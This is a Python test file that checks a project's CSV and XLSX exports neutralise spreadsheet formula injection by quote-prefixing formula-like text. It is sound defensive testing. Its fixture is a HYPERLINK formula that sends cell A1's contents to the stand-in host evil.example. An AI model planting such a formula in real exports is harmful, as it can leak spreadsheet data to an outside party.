"""CSV and XLSX exports never carry a live spreadsheet formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from ketenzicht.common.exports import csv_bytes, is_formula_like, safe_text, xlsx_bytes

MALICIOUS = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'


@pytest.mark.parametrize(
    "text", [MALICIOUS, "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx", "\uff1d1+1"]
)
def test_a_formula_like_text_gets_a_single_quote_in_csv(text):
    assert is_formula_like(text)
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["Jansen", "", "-3.25", "+14.0", "1e5", "van der Berg", "a=b"])
def test_ordinary_text_and_plain_numbers_are_left_alone(text):
    assert safe_text(text) == text


def test_numbers_and_dates_stay_numbers_and_dates_in_csv():
    assert [safe_text(v) for v in (-3, 2.5, Decimal("-1.50"), date(2026, 3, 4), None)] == [
        "-3",
        "2.5",
        "-1.50",
        "2026-03-04",
        "",
    ]
    assert safe_text(datetime(2026, 3, 4, 9, 30)) == "2026-03-04 09:30"


def test_the_csv_download_neutralises_a_malicious_name_and_opens_in_dutch_excel():
    data, count = csv_bytes(["Naam", "Aantal"], [[MALICIOUS, 3], ["Jansen", -1]])
    assert count == 2
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Naam", "Aantal"], ["'" + MALICIOUS, "3"], ["Jansen", "-1"]]


def test_the_xlsx_download_keeps_a_malicious_name_as_quoted_text_never_a_formula():
    data, count = xlsx_bytes(
        ["Naam", "Aantal", "Datum"], [[MALICIOUS, 3, date(2026, 3, 4)], ["-2.5", -2.5, None]]
    )
    assert count == 2
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml  # no formula anywhere in the sheet
    sheet = load_workbook(io.BytesIO(data)).active
    name, number, day = sheet[2]
    assert (name.value, name.data_type, name.quotePrefix) == (MALICIOUS, "s", True)
    assert (number.value, number.data_type) == (3, "n")
    assert day.value == datetime(2026, 3, 4)
    text, negative, _empty = sheet[3]
    assert (text.value, text.quotePrefix) == ("-2.5", False)  # a number as text: left alone
    assert negative.value == -2.5
    assert sheet["A1"].font.bold


def test_an_aware_datetime_is_refused_rather_than_shifted():
    from datetime import UTC

    with pytest.raises(ValueError, match="local time"):
        xlsx_bytes(["t"], [[datetime(2026, 1, 1, tzinfo=UTC)]])
